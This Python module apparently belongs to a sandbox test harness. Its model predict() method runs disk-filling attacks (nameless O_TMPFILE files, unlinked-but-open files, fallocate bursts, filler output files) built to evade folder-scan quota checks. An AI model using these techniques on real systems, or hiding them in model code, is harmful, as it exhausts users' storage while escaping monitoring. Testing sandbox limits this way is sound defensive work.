"""Write past the disk limit where a scan of the folders cannot see it, as targets.json
says: an O_TMPFILE file (no name at all) grown with fallocate, a file unlinked while open,
a burst of fallocates faster than any polling, plain files in the output. Each keeps what
it got open for a while (to fill the user's disk for as long as it can) and reports how far
it got in stdout (its loot.json is among what the sandbox removes)."""

import os
import time

import numpy as np

from attack_common import take, targets

T = targets()
MiB = 1 << 20
HELD = []


def grow(fd, mb, step_mb=16):
    got = 0
    while got < mb:
        try:
            os.posix_fallocate(fd, got * MiB, step_mb * MiB)
        except OSError as exc:
            take("refused", f"{type(exc).__name__}: {exc}")
            break
        got += step_mb
        take("held_mb", got)
    HELD.append(fd)


def tmpfile():
    grow(os.open(T.get("where", "."), os.O_TMPFILE | os.O_RDWR, 0o600), T["mb"])


def unlinked():
    fd = os.open("hidden.bin", os.O_CREAT | os.O_RDWR, 0o600)
    os.unlink("hidden.bin")
    grow(fd, T["mb"])


def burst():
    """Ten fallocates of chunk_mb each, as fast as the kernel allows."""
    ok, t0 = 0, time.monotonic()
    for _ in range(10):
        fd = os.open(".", os.O_TMPFILE | os.O_RDWR, 0o600)
        try:
            os.posix_fallocate(fd, 0, T["chunk_mb"] * MiB)
            ok += 1
        except OSError:
            pass
        HELD.append(fd)
        take("burst", {"tried": len(HELD), "ok": ok, "s": round(time.monotonic() - t0, 3)})


def output_files():
    block = b"d" * MiB
    for i in range(T["mb"] // 8):
        with open(f"/app/output/fill-{i}.bin", "wb") as fh:
            for _ in range(8):
                fh.write(block)
        take("files", i + 1)


ATTACKS = {"tmpfile": tmpfile, "unlinked": unlinked, "burst": burst,
           "output_files": output_files}


class Model:
    def predict(self, X):
        try:
            ATTACKS[T["attack"]]()
        except OSError as exc:
            take("stopped", f"{type(exc).__name__}: {exc}")
        time.sleep(5)  # hold it
        take("survived", True)
        return np.zeros(len(X), dtype=np.int64)
